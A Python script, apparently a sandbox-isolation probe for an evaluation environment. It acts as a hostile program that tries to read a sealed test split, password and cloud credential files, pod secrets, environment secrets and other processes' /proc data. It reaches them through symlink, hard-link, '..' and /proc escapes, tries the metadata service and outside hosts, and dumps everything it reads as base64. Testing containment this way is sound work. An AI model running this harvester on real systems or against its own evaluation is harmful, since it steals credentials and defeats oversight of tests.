"""What a hostile script tries from inside: every way to the test set, to credentials, to the network, to others' files.

    python look.py KNOWN.json

KNOWN is what the attacker is assumed to know: {"paths": {name: path}, "ports": {name: port}, "sockets": [path],
"pids": {name: pid}}. Prints a line `TRIES {attempt: "refused: ..." or "TOOK: ..."}` and a line `LOOT <base64>` with
the zipped bytes of everything that it could read anywhere.
"""
# The calls are what is tried, so they stand here bare.
# ruff: noqa: PTH113, PTH116, PTH118, PTH123, PTH208

import base64
import json
import os
import re
import socket
import sys
import zlib
from collections.abc import Callable, Iterable, Mapping
from functools import partial
from pathlib import Path
from typing import Any

SYSTEM = {"/usr", "/bin", "/sbin", "/lib", "/lib32", "/lib64", "/libx32", "/sys", "/dev", "/proc"}
SECRET = re.compile("KEY|SECRET|TOKEN|PASSW|CREDENTIAL|NATS|S3_|AWS|ENDPOINT", re.IGNORECASE)
MOST = 4000
"""Files that are read below one folder."""

loot: dict[str, bytes] = {}
"""Path or name -> what was read there."""


class Nothing(Exception):
    """Looked, and found nothing of use."""


def attempts(known: Mapping[str, Any]) -> dict[str, Callable[[], str]]:
    found: dict[str, Callable[[], str]] = {}
    for name, path in known["paths"].items():
        found |= {f"{name} {way}": partial(go, name, path) for way, go in WAYS.items()}
    for name, port in known["ports"].items():
        found[f"tcp {name}"] = partial(connect, socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", port))
        found[f"tcp6 {name}"] = partial(connect, socket.AF_INET6, socket.SOCK_STREAM, ("::1", port))
    for number, path in enumerate(known["sockets"]):
        found[f"socket {number}"] = partial(connect, socket.AF_UNIX, socket.SOCK_STREAM, path)
    for name, pid in known["pids"].items():
        for entry in ("environ", "cmdline", "cwd", "root", "fd", "maps", "task"):
            found[f"proc {name} {entry}"] = partial(take, f"/proc/{pid}/{entry}")
    found |= {
        "dns": lambda: str(socket.getaddrinfo("example.org", 80)),
        "dns server": partial(connect, socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.53", 53)),
        "metadata address": partial(connect, socket.AF_INET, socket.SOCK_STREAM, ("169.254.169.254", 80)),
        "outside": partial(connect, socket.AF_INET, socket.SOCK_STREAM, ("192.0.2.1", 443)),
        "root's home": partial(take, "/root/.aws"),
        "password file": partial(take, "/etc/shadow"),
        "pod's secrets": partial(take, "/var/run/secrets"),
        "credentials in the environment": environment,
        "working folders of all processes": working_folders,
        "write beside the mounts": write_mounts,
        "old manifests in reach": manifests,
    }
    return found


def symbolic(name: str, path: str) -> str:
    """The link stays, for the tools that are asked to follow it."""
    place = Path(link_of(name))
    place.parent.mkdir(exist_ok=True)
    if not place.is_symlink():
        place.symlink_to(path)
    return take(str(place))


def link_of(name: str) -> str:
    return "links/" + re.sub(r"\W+", "_", name)


def hard(name: str, path: str) -> str:
    place = link_of(name) + "_hard"
    os.link(path, place)
    return take(place)


def through(process: int | str) -> Callable[[str, str], str]:
    """By the folders in which a process has its root and works."""

    def go(name: str, path: str) -> str:
        up = "/".join([".."] * 40)
        return take(f"/proc/{process}/root{path}") + take(f"/proc/{process}/cwd/{up}{path}")

    return go


WAYS: dict[str, Callable[[str, str], str]] = {
    "directly": lambda name, path: take(path),
    "by symbolic link": symbolic,
    "by hard link": hard,
    "by ..": lambda name, path: take("/".join([".."] * 40) + path),
    "by own process": through("self"),
    "by parent process": through(os.getppid()),
    "by first process": through(1),
}


def take(path: str) -> str:
    """Read a file, or all below a folder. OSError where it cannot be opened."""
    try:
        names = os.listdir(path)
    except NotADirectoryError:
        with open(path, "rb") as file:
            loot[path] = file.read(50_000_000)
        return f"{len(loot[path])} bytes of {path}"
    loot[f"{path}/"] = "\n".join(names).encode()
    return f"{len(names)} names and {sweep([path])} files in {path}"


def sweep(roots: Iterable[str], skip: Iterable[str] = ()) -> int:
    """Read whatever can be read below `roots`; the number of files."""
    own = {sys.prefix, sys.base_prefix, os.path.realpath(sys.base_prefix), *SYSTEM, *skip}
    count = 0
    for root in roots:
        for place, folders, files in os.walk(root):
            folders[:] = [name for name in folders if os.path.join(place, name) not in own]
            loot[f"{place}/"] = "\n".join([*folders, *files]).encode()
            for name in files:
                path = os.path.join(place, name)
                try:
                    if os.path.isfile(path) and not is_program(path):
                        with open(path, "rb") as file:
                            loot[path] = file.read(50_000_000)
                        count += 1
                except OSError:
                    continue
                if count >= MOST:
                    return count
    return count


def is_program(path: str) -> bool:
    """Interpreters and their libraries stand beside ours and tell nothing."""
    found = os.stat(path)
    return found.st_size > 1_000_000 and bool(found.st_mode & 0o111)


def connect(family: int, kind: int, address: Any) -> str:
    with socket.socket(family, kind) as sock:
        sock.settimeout(3)
        sock.connect(address)
        sock.send(b"INFO\r\n")
        if kind == socket.SOCK_STREAM:
            loot[str(address)] = sock.recv(1000)
    return f"connected to {address}"


def environment() -> str:
    loot["environment"] = json.dumps(dict(os.environ)).encode()
    if telling := [name for name in os.environ if SECRET.search(name)]:
        return f"the environment has {telling}"
    raise Nothing(f"{len(os.environ)} variables, no credential")


def working_folders() -> str:
    """Of every process that can be seen: what lies in its folder and is not in ours."""
    own, seen = set(os.listdir(".")), 0
    for pid in [name for name in os.listdir("/proc") if name.isdigit()]:
        try:
            names = set(os.listdir(f"/proc/{pid}/cwd"))
        except OSError:
            continue
        seen += 1
        for entry in ("environ", "cmdline"):
            try:
                loot[f"/proc/{pid}/{entry}"] = Path(f"/proc/{pid}/{entry}").read_bytes()
            except OSError:
                continue
        if not names <= own and names != set(os.listdir("/")):
            return f"process {pid} works among {sorted(names - own)[:5]}"
    raise Nothing(f"{seen} processes, all of them our own")


def write_mounts() -> str:
    """What others get to see, too: the view, the templates, the training kit, the package, the samples."""
    places = [os.environ.get(f"M3_{name}", "") for name in ("DATA", "TEMPLATES", "LIB")]
    places += ["/data", "/templates", "/m3", "/package", *(sys.path[:1] if "package" in sys.path[0] else [])]
    for place in filter(None, places):
        for path in [place, *[os.path.join(place, name) for name in os.listdir(place)][:3]] if is_dir(place) else []:
            try:
                if is_dir(path):
                    Path(path, "m3-was-here").write_text("x")
                else:
                    open(path, "ab").close()
            except OSError:
                continue
            return f"wrote to {path}"
    raise Nothing("all of them are read-only")


def is_dir(path: str) -> bool:
    try:
        os.listdir(path)
    except OSError:
        return False
    return True


def manifests() -> str:
    """Rows or references that speak of the sealed part, in whatever was left in reach."""
    marks = re.compile(rb'"split" ?: ?"test"|"bucket" ?: ?"sealed"|"packs" ?:|"looks" ?:')
    roots = [".", *(os.environ[name] for name in ("M3_DATA", "M3_TEMPLATES", "M3_LIB", "TMPDIR") if name in os.environ)]
    count = sweep(root for root in (*roots, "/dev/shm", "/tmp", "/") if root not in SYSTEM)
    for path, data in loot.items():
        if path.endswith((".json", ".jsonl", ".txt", ".csv")) and (mark := marks.search(data)):
            return f"{mark.group().decode()} in {path}"
    raise Nothing(f"{count} files, none of them speaks of it")


def main(known: Mapping[str, Any], skip: Iterable[str] = ()) -> None:
    """`skip` are folders that one is given anyway."""
    SYSTEM.update(skip)
    told = {}
    for name, attempt in attempts(known).items():
        try:
            told[name] = f"TOOK: {attempt()}"
        except (OSError, Nothing) as error:
            told[name] = f"refused: {error!r:.160}"
    print(f"\nTRIES {json.dumps(told)}")
    whole = b"\n".join(path.encode(errors="replace") + b"\n" + data for path, data in loot.items())
    print(f"LOOT {base64.b64encode(zlib.compress(whole, 1)).decode()}", flush=True)


if __name__ == "__main__":
    main(json.loads(Path(sys.argv[1]).read_text()))
